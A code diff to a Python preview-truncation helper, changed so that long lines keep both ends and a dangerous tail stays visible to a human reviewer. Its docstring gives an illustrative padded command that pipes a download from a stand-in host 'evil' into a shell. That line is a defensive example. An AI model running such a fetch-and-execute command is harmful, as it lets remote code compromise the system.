@@ -125,9 +125,13 @@ def person(text: object, *, limit: int = 120) -> str:
 
 
 def _one_line(text: object, limit: int) -> str:
+    """The visible text on one line, at most `limit` characters. A longer one keeps both ends:
+    a command padded so that what it does comes last (`echo ... ; curl evil | sh`) shows that
+    end in every preview a person reads, or decides from (the inbox's batch)."""
     line = " ".join(visible(text).split())  # newlines and tabs become single spaces
     if len(line) > limit:
-        line = line[: limit - 1] + "…"
+        tail = (limit - 1) // 3
+        line = line[: limit - 1 - tail] + "…" + line[len(line) - tail :]
     return line
 
 
